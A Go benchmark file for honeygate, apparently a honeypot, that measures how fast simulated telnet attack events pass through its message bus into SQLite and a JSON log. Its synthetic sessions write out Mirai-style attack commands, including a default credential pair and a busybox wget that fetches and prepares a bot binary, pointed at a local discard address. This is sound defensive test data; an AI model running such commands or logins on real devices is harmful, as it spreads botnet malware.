// Package pipeline benchmarks honeygate's event path on its own, without
// sensors or a load generator competing for the CPU: many publishers put
// realistic telnet events on the embedded NATS JetStream bus (file storage),
// and the durable consumers write them to SQLite and to the JSON log, as
// `honeygate serve` does. It reports events per second stored.
//
//	go test -run='^$' -bench=Pipeline -benchtime=1x ./bench/pipeline
//	PIPELINE_EVENTS=500000 go test -run='^$' -bench=Pipeline -benchtime=1x ./bench/pipeline
package pipeline

import (
	"context"
	"fmt"
	"log/slog"
	"os"
	"path/filepath"
	"strconv"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/honeygate/honeygate/internal/bus"
	"github.com/honeygate/honeygate/internal/event"
	"github.com/honeygate/honeygate/internal/jsonlog"
	"github.com/honeygate/honeygate/internal/store/sqlite"
	"github.com/honeygate/honeygate/internal/testkit/eventkit"
)

// session returns the events of one Mirai loader session as the telnet
// sensor produces them (15 events, the same kinds and sizes).
func session(n int) []event.Event {
	sid := fmt.Sprintf("%012x", n)
	a := eventkit.New(sid, fmt.Sprintf("198.51.%d.%d", n/250%250, n%250+1), 23, time.Now().UTC(),
		eventkit.Sensor("bench"), eventkit.SrcPort(30000+n%30000), eventkit.RandomIDs(), eventkit.CarryFamily())
	evs := []event.Event{a.Connect(0)}
	a.Family = "mirai" // known from the credentials on: every later event carries it
	evs = append(evs,
		a.Size(0, 80, 24),
		a.Login(0, "root", "xc3511", true),
		a.Attributed(0, "mirai", "mirai-credentials (+1): login with a pair from Mirai's default credential table [credential root:xc3511]"),
	)
	for _, in := range []string{"enable", "system", "shell", "sh", "/bin/busybox ECCHI",
		"/bin/busybox cat /proc/mounts; /bin/busybox ECCHI",
		`/bin/busybox echo -e '\x6b\x61\x6d\x69' > /tmp/.nippon; /bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon`,
		"/bin/busybox wget http://127.0.0.1:9/bins/mirai.arm -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI",
		"exit"} {
		evs = append(evs, a.Command(0, in, "ECCHI: applet not found\n"))
	}
	closed := a.Closed(0, "mirai")
	closed.Duration, closed.Bytes, closed.Message = 0.4, 900, "client exit"
	return append(evs, a.Download(0, "http://127.0.0.1:9/bins/"+sid+"/mirai.arm", "wget", "/tmp/dvrHelper"), closed)
}

func BenchmarkPipeline(b *testing.B) {
	total := 300_000
	if v, err := strconv.Atoi(os.Getenv("PIPELINE_EVENTS")); err == nil && v > 0 {
		total = v
	}
	const publishers = 500 // like 500 concurrent attacker sessions
	perSession := len(session(0))
	sessions := total / perSession
	total = sessions * perSession

	for range b.N {
		dir := b.TempDir()
		ctx, cancel := context.WithCancel(context.Background())
		log := slog.New(slog.DiscardHandler)
		bs, err := bus.Open(ctx, bus.Options{StoreDir: filepath.Join(dir, "nats")}, log)
		if err != nil {
			b.Fatal(err)
		}
		st, err := sqlite.Open(filepath.Join(dir, "honeygate.db"))
		if err != nil {
			b.Fatal(err)
		}
		elog, err := jsonlog.Open(filepath.Join(dir, "log"), 256<<20, 0)
		if err != nil {
			b.Fatal(err)
		}
		var stored atomic.Int64
		done := make(chan struct{})
		var wg sync.WaitGroup
		wg.Add(2)
		go func() {
			defer wg.Done()
			_ = bs.Consume(ctx, "store", 1000, bus.Handler{Events: func(ctx context.Context, evs []event.Event) error {
				ins, err := st.AppendEvents(ctx, evs)
				if err == nil && stored.Add(int64(len(ins))) == int64(total) {
					close(done)
				}
				return err
			}})
		}()
		go func() {
			defer wg.Done()
			_ = bs.Consume(ctx, "jsonlog", 1000, bus.Handler{Events: func(ctx context.Context, evs []event.Event) error {
				return elog.Write(evs)
			}})
		}()

		b.ResetTimer()
		cpu0 := cpuTime()
		start := time.Now()
		next := atomic.Int64{}
		var pubs sync.WaitGroup
		for range publishers {
			pubs.Add(1)
			go func() {
				defer pubs.Done()
				for {
					n := next.Add(1) - 1
					if n >= int64(sessions) {
						return
					}
					for _, e := range session(int(n)) {
						if err := bs.Publish(ctx, &e); err != nil {
							b.Error(err)
							return
						}
					}
				}
			}()
		}
		pubs.Wait()
		published := time.Since(start)
		select {
		case <-done:
		case <-time.After(10 * time.Minute):
			b.Fatalf("stored %d of %d events", stored.Load(), total)
		}
		elapsed := time.Since(start)
		cpu := cpuTime() - cpu0
		b.StopTimer()
		// The process's CPU time (publishers, the embedded server, both
		// consumers) per event stored: on a shared machine, a figure the
		// other tenants barely move, unlike the rates.
		b.ReportMetric(float64(cpu.Microseconds())/float64(total), "cpu-us/event")
		b.ReportMetric(float64(total)/elapsed.Seconds(), "events/s_stored")
		b.ReportMetric(float64(total)/published.Seconds(), "events/s_published")
		if n, err := st.CountEvents(ctx); err != nil || n != int64(total) {
			b.Fatalf("store holds %d events (%v), want %d", n, err, total)
		}
		cancel()
		wg.Wait()
		bs.Close()
		elog.Close()
		st.Close()
	}
}

// cpuTime is the user and system CPU time this process has used.
func cpuTime() time.Duration {
	var ru syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &ru); err != nil {
		return 0
	}
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}
